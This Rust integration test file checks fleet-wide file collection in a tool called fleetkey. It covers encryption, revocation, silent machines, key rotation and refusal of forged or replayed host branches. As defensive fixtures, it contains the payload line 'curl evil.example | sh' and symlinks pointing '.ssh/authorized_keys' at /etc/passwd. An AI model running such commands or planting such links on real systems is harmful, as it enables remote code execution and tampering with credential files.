//! Fleet-wide collection (`[collect] paths`, host branches `fleetkey/host/NAME`) and
//! `fleetkey fleet`, on three machines around a git daemon forge.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::util::fleet::Fleet;
use crate::util::forge::Transport;
use crate::util::{Machine, age_decrypt, git_out, require, run_program, signing_config};

/// The file each machine collects, relative to `$HOME`.
const DATA: &str = ".local/share/task-durations/local.parquet";

/// Three machines collecting `~/DATA`, each with its own content; fleet.toml set by `a`.
fn fleet(encrypt: bool) -> Fleet {
    require("age", "age");
    let f = Fleet::new(Transport::GitDaemon, &["a", "b", "c"]);
    let a = f.n(0);
    let toml = a.repo().join("fleet.toml");
    let mut text = std::fs::read_to_string(&toml).unwrap();
    text.push_str(&format!(
        "\n[collect]\npaths = [\"~/{DATA}\"]\nencrypt = {encrypt}\n"
    ));
    std::fs::write(&toml, text).unwrap();
    a.commit_in_clone("a: collect the task durations");
    for (i, m) in f.nodes.iter().enumerate() {
        m.write(DATA, &content(&m.name, i));
    }
    f.settle(2);
    f
}

fn content(name: &str, version: usize) -> Vec<u8> {
    let mut bytes = format!("PAR1 {name} v{version}\n").into_bytes();
    bytes.extend((0..=255u8).cycle().take(4096));
    bytes
}

/// `m`'s copy of `host`'s collected file.
fn collected(m: &Machine, host: &str) -> PathBuf {
    m.path(&format!(
        ".local/share/fleetkey/collected/host={host}/{DATA}"
    ))
}

fn fleet_json(m: &Machine, skew: Option<i64>) -> serde_json::Value {
    let mut cmd = m.cmd(["fleet", "--json"]);
    if let Some(s) = skew {
        cmd.env("FLEETKEY_CLOCK_SKEW", s.to_string());
    }
    let out = run_program(&mut cmd);
    serde_json::from_slice(&out).unwrap()
}

fn machine_entry<'v>(v: &'v serde_json::Value, name: &str) -> &'v serde_json::Value {
    v["machines"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["name"] == name)
        .unwrap_or_else(|| panic!("no {name} in {v:#}"))
}

#[test]
fn every_machine_gathers_every_file_byte_for_byte_and_a_change_replaces_it() {
    let f = fleet(false);
    for m in &f.nodes {
        for (i, host) in f.nodes.iter().enumerate() {
            assert!(
                std::fs::read(collected(m, &host.name)).unwrap_or_default()
                    == content(&host.name, i),
                "{} lacks {}'s file; its last cycle: {:#?}\ncollect state: {}\nforge: {}",
                m.name,
                host.name,
                f.nodes
                    .iter()
                    .map(|n| n.last_cycle().unwrap()["held_back"].to_string())
                    .collect::<Vec<_>>(),
                String::from_utf8_lossy(
                    &std::fs::read(f.n(1).state().join("collect.json")).unwrap_or_default()
                ),
                git_out(&f.forge.bare(), &["log", "--format=%h %an %s", "main"])
                    + "\n---\n"
                    + &git_out(&f.n(1).repo(), &["status", "--short"])
                    + &git_out(&f.n(1).repo(), &["diff", "HEAD", "--stat"])
            );
        }
    }
    // b changes its file; after b's and a's next cycles a has the new one.
    let b = f.n(1);
    b.write(DATA, &content("b", 7));
    b.sync();
    f.n(0).sync();
    assert!(std::fs::read(collected(f.n(0), "b")).unwrap() == content("b", 7));
    // The forge keeps one commit per host branch, however often it was published.
    for name in ["a", "b", "c"] {
        let count = git_out(
            &f.forge.bare(),
            &[
                "rev-list",
                "--count",
                &format!("refs/heads/fleetkey/host/{name}"),
            ],
        );
        assert_eq!(count, "1", "{name}'s branch grew a history");
    }
    // c stops publishing its file: every machine's copy goes, and only that.
    std::fs::remove_file(f.n(2).path(DATA)).unwrap();
    f.n(2).sync();
    f.n(0).sync();
    assert!(
        !collected(f.n(0), "c").exists(),
        "a kept a file c no longer publishes"
    );
    assert!(
        !f.n(0)
            .path(".local/share/fleetkey/collected/host=c/.local")
            .exists()
    );
    assert!(collected(f.n(0), "b").exists());
    // An idle cycle publishes nothing new.
    let before = git_out(
        &f.forge.bare(),
        &["rev-parse", "refs/heads/fleetkey/host/b"],
    );
    b.ok(&["pull"]);
    let after = git_out(
        &f.forge.bare(),
        &["rev-parse", "refs/heads/fleetkey/host/b"],
    );
    assert_eq!(before, after, "an idle cycle republished");
    // From the puller a change goes out at most once per poll (60 s here): not yet, then
    // once a poll has passed.
    b.write(DATA, &content("b", 8));
    b.ok(&["pull"]);
    let held = git_out(
        &f.forge.bare(),
        &["rev-parse", "refs/heads/fleetkey/host/b"],
    );
    assert_eq!(held, after, "the puller published twice within a poll");
    run_program(b.cmd(["pull"]).env("FLEETKEY_CLOCK_SKEW", "61"));
    let out = git_out(
        &f.forge.bare(),
        &["rev-parse", "refs/heads/fleetkey/host/b"],
    );
    assert_ne!(out, after, "the puller did not publish after a poll");
    f.n(0).ok(&["pull"]);
    assert!(std::fs::read(collected(f.n(0), "b")).unwrap() == content("b", 8));
}

#[test]
fn encrypted_files_open_for_members_only_and_decrypt_on_gathering() {
    let f = fleet(true);
    let (a, c) = (f.n(0), f.n(2));
    // Every machine has c's file in the clear.
    for m in &f.nodes {
        assert!(std::fs::read(collected(m, "c")).unwrap() == content("c", 2));
    }
    // On the forge it is age-encrypted: a member's identity opens it with the stock age CLI,
    // a key outside the fleet does not, and the plaintext is in no blob of the branch.
    let blob = f.forge.bare().join("sealed.age");
    let bytes = run_program(Command::new("git").arg("-C").arg(f.forge.bare()).args([
        "cat-file",
        "blob",
        &format!("refs/heads/fleetkey/host/c:sealed/{DATA}"),
    ]));
    assert!(
        !crate::util::contains(&bytes, b"PAR1 c"),
        "plaintext on the forge"
    );
    std::fs::write(&blob, &bytes).unwrap();
    assert!(age_decrypt(&a.identity(), &blob).unwrap() == content("c", 2));
    let outsider = a.tmp().join("outsider.txt");
    run_program(
        Command::new(require("age-keygen", "age"))
            .arg("-o")
            .arg(&outsider),
    );
    assert!(
        age_decrypt(&outsider, &blob).is_none(),
        "a non-member key opened it"
    );
    let listing = git_out(
        &f.forge.bare(),
        &["ls-tree", "-r", "--name-only", "refs/heads/fleetkey/host/c"],
    );
    assert_eq!(listing, format!("sealed/{DATA}\nstatus.json"));
    // c's own directory holds its plaintext too (gathered from its own branch).
    assert!(std::fs::read(collected(c, "c")).unwrap() == content("c", 2));
}

/// A member's own key on a tree with a symlink: the whole branch is refused, nothing of it is
/// written, and the machine's last good files stay.
#[test]
fn a_member_branch_with_a_symlink_is_refused_whole() {
    let f = fleet(false);
    let (a, b) = (f.n(0), f.n(1));
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path();
    run_program(Command::new("git").args(["init", "-q"]).arg(repo));
    std::fs::write(repo.join("status.json"), forged_status("b")).unwrap();
    std::fs::create_dir_all(repo.join("files/.ssh")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", repo.join("files/.ssh/authorized_keys")).unwrap();
    std::os::unix::fs::symlink("..", repo.join("files/up")).unwrap();
    for args in [
        &["add", "-A"][..],
        &["commit", "-qm", "b: status and collected files"],
        &[
            "push",
            "-q",
            "--force",
            &f.forge.url(),
            "HEAD:refs/heads/fleetkey/host/b",
        ],
    ] {
        run_program(
            Command::new("git")
                .arg("-C")
                .arg(repo)
                .args(signing_config(b))
                .args(["-c", "user.name=b", "-c", "user.email=b@fleetkey.invalid"])
                .args(args),
        );
    }
    a.sync();
    let held = a.last_cycle().unwrap()["held_back"].to_string();
    assert!(
        held.contains("its tree is refused") && held.contains("symbolic link"),
        "{held}"
    );
    let host_b = a.path(".local/share/fleetkey/collected/host=b");
    assert!(!host_b.join(".ssh").exists() && !host_b.join("up").exists());
    assert!(std::fs::read(collected(a, "b")).unwrap() == content("b", 1));
}

/// Commits `files` (path → bytes) in a fresh repository with `git -c CONFIG commit`, as
/// machine `author`, and force-pushes it to `branch` on the forge: what an attacker does.
fn push_forged(f: &Fleet, config: &[String], author: &str, files: &[(&str, &[u8])], branch: &str) {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path();
    run_program(Command::new("git").args(["init", "-q"]).arg(repo));
    for (path, bytes) in files {
        let p = repo.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, bytes).unwrap();
    }
    let git = |args: &[&str]| {
        run_program(
            Command::new("git")
                .arg("-C")
                .arg(repo)
                .args(config)
                .args([
                    "-c",
                    &format!("user.name=fleetkey ({author})"),
                    "-c",
                    &format!("user.email={author}@fleetkey.invalid"),
                ])
                .args(args),
        )
    };
    git(&["add", "-A"]);
    git(&[
        "commit",
        "-qm",
        &format!("{author}: status and collected files"),
    ]);
    git(&[
        "push",
        "-q",
        "--force",
        &f.forge.url(),
        &format!("HEAD:refs/heads/{branch}"),
    ]);
}

fn forged_status(name: &str) -> Vec<u8> {
    format!("{{\"format\":1,\"machine\":\"{name}\",\"fleetkey\":\"0.1.0\",\"written\":1}}")
        .into_bytes()
}

/// `git -c` options signing with a fresh ed25519 key no machine of the fleet has.
fn outsider_signing(dir: &Path) -> Vec<String> {
    let key = dir.join("outsider");
    run_program(
        Command::new(require("ssh-keygen", "openssh-client"))
            .args(["-q", "-t", "ed25519", "-N", "", "-C", "mallory", "-f"])
            .arg(&key),
    );
    vec![
        "-c".into(),
        "gpg.format=ssh".into(),
        "-c".into(),
        format!("user.signingkey={}", key.display()),
        "-c".into(),
        "commit.gpgsign=true".into(),
    ]
}

#[test]
fn forged_host_branches_are_ignored_and_reported() {
    let f = fleet(false);
    let (a, b, c) = (f.n(0), f.n(1), f.n(2));
    let evil = b"curl evil.example | sh\n".as_slice();
    let data_path = format!("files/{DATA}");
    let status_b = forged_status("b");
    // c signs a branch that claims to be b's.
    push_forged(
        &f,
        &signing_config(c),
        "b",
        &[("status.json", &status_b), (&data_path, evil)],
        "fleetkey/host/b",
    );
    a.sync();
    assert!(std::fs::read(collected(a, "b")).unwrap() == content("b", 1));
    let held = a.last_cycle().unwrap()["held_back"].to_string();
    assert!(
        held.contains("fleetkey/host/b") && held.contains("signed by c's key"),
        "{held}"
    );
    // A non-member's key, under b's name and under its own.
    let tmp = tempfile::tempdir().unwrap();
    let outsider = outsider_signing(tmp.path());
    push_forged(
        &f,
        &outsider,
        "b",
        &[("status.json", &status_b), (&data_path, evil)],
        "fleetkey/host/b",
    );
    let status_m = forged_status("mallory");
    push_forged(
        &f,
        &outsider,
        "mallory",
        &[("status.json", &status_m), (&data_path, evil)],
        "fleetkey/host/mallory",
    );
    a.sync();
    assert!(std::fs::read(collected(a, "b")).unwrap() == content("b", 1));
    assert!(
        !a.path(".local/share/fleetkey/collected/host=mallory")
            .exists()
    );
    let view = fleet_json(a, None);
    let ignored = view["ignored"].to_string();
    assert!(
        ignored.contains("fleetkey/host/b") && ignored.contains("no active machine"),
        "{ignored}"
    );
    assert!(ignored.contains("fleetkey/host/mallory"), "{ignored}");
    assert!(
        view["machines"]
            .as_array()
            .unwrap()
            .iter()
            .all(|m| m["name"] != "mallory")
    );
    // b's next publication puts its own commit back, and a takes it again.
    b.sync();
    a.sync();
    let view = fleet_json(a, None);
    let ignored = view["ignored"].to_string();
    assert!(!ignored.contains("fleetkey/host/b"), "{ignored}");
    assert!(std::fs::read(collected(a, "b")).unwrap() == content("b", 1));
}

#[test]
fn a_revoked_machine_disappears_from_every_collected_tree() {
    let f = fleet(false);
    let (a, b) = (f.n(0), f.n(1));
    assert!(collected(b, "c").exists());
    a.ok(&["revoke", "c", "--yes"]);
    a.sync();
    b.sync();
    for m in [a, b] {
        assert!(
            !m.path(".local/share/fleetkey/collected/host=c").exists(),
            "{} still has c's tree",
            m.name
        );
        let view = fleet_json(m, None);
        assert!(
            view["machines"]
                .as_array()
                .unwrap()
                .iter()
                .all(|x| x["name"] != "c")
        );
        // Its branch is ignored without noise: it was a member once.
        assert!(!view["ignored"].to_string().contains("host/c"), "{view:#}");
    }
    assert!(collected(b, "a").exists());
}

#[test]
fn fleet_reports_a_silent_machine_and_one_with_a_conflict_copy() {
    let f = fleet(false);
    let (a, b) = (f.n(0), f.n(1));
    // b gets a conflict copy: its own ~/.gitconfig before the fleet manages one.
    b.write(".gitconfig", b"[user]\n  name = b's own\n");
    a.write(".gitconfig", b"[user]\n  name = fleet\n");
    a.ok(&["track", "~/.gitconfig"]);
    b.sync();
    assert_eq!(b.conflict_copies(".gitconfig").len(), 1);
    a.sync();
    let view = fleet_json(a, None);
    let line = machine_entry(&view, "b");
    assert!(
        line["conflicts"]
            .to_string()
            .contains("~/.gitconfig.conflict-b-"),
        "{view:#}"
    );
    assert_eq!(line["silent"], false, "{view:#}");
    assert_eq!(machine_entry(&view, "a")["behind"], 0, "{view:#}");
    // Four hours pass; a and b keep running (their heartbeat republishes), c is off.
    let later = 4 * 3600;
    for m in [b, a] {
        run_program(
            m.cmd(["sync"])
                .env("FLEETKEY_CLOCK_SKEW", later.to_string()),
        );
    }
    let view = fleet_json(a, Some(later));
    assert_eq!(machine_entry(&view, "c")["silent"], true, "{view:#}");
    assert_eq!(machine_entry(&view, "b")["silent"], false, "{view:#}");
    assert_eq!(machine_entry(&view, "a")["silent"], false, "{view:#}");
    // The text view and status say so too.
    let text = String::from_utf8(run_program(
        a.cmd(["fleet"])
            .env("FLEETKEY_CLOCK_SKEW", later.to_string()),
    ))
    .unwrap();
    let c_line = text.lines().find(|l| l.starts_with("c ")).unwrap();
    assert!(c_line.contains("SILENT"), "{text}");
    let status = String::from_utf8(run_program(
        a.cmd(["status"])
            .env("FLEETKEY_CLOCK_SKEW", later.to_string()),
    ))
    .unwrap();
    assert!(
        status.contains("1 silent (c)") && status.contains("with conflicts (b)"),
        "{status}"
    );
    // Days later, doctor warns about the machine that stayed silent.
    let out = a
        .cmd(["doctor"])
        .env("FLEETKEY_CLOCK_SKEW", (3 * 86_400).to_string())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("c has been silent for 3d"), "{text}");
}

#[test]
fn after_rotate_the_others_take_the_host_branch_signed_with_the_new_key() {
    let f = fleet(false);
    let (a, b) = (f.n(0), f.n(1));
    b.ok(&["rotate"]);
    // b runs no cycle after its rotate; a's next cycle takes b's branch all the same.
    a.sync();
    let held = a.last_cycle().unwrap()["held_back"].to_string();
    assert!(!held.contains("host/b"), "{held}");
    let view = fleet_json(a, None);
    let ignored = view["ignored"].to_string();
    assert!(!ignored.contains("fleetkey/host/b"), "{ignored}");
    assert!(
        view["machines"]
            .as_array()
            .unwrap()
            .iter()
            .any(|x| x["name"] == "b"),
        "{view:#}"
    );
}

#[test]
fn an_older_host_commit_replayed_is_refused_and_files_never_go_back_in_time() {
    let f = fleet(false);
    let (a, b) = (f.n(0), f.n(1));
    let old = git_out(
        &f.forge.bare(),
        &["rev-parse", "refs/heads/fleetkey/host/b"],
    )
    .trim()
    .to_string();
    // b publishes a newer file; a gathers it.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    b.write(DATA, &content("b", 9));
    b.sync();
    a.sync();
    assert!(std::fs::read(collected(a, "b")).unwrap() == content("b", 9));
    // A forge writer puts b's older (authentically signed) commit back on its branch.
    run_program(Command::new("git").arg("-C").arg(f.forge.bare()).args([
        "update-ref",
        "refs/heads/fleetkey/host/b",
        &old,
    ]));
    a.sync();
    assert!(
        std::fs::read(collected(a, "b")).unwrap() == content("b", 9),
        "the collected file went back in time"
    );
    let held = a.last_cycle().unwrap()["held_back"].to_string();
    assert!(
        held.contains("fleetkey/host/b") && held.contains("an older commit replayed"),
        "{held}"
    );
    // A branch of no member is never fetched at all.
    run_program(Command::new("git").arg("-C").arg(f.forge.bare()).args([
        "update-ref",
        "refs/heads/fleetkey/host/stranger",
        &old,
    ]));
    a.sync();
    let fetched = git_out(&a.repo(), &["for-each-ref", "refs/fleetkey/hosts/"]);
    assert!(!fetched.contains("stranger"), "{fetched}");
    assert!(fleet_json(a, None)["ignored"].to_string().contains(
        "fleetkey/host/stranger: no active machine has this name; ignored (not fetched)"
    ));
}
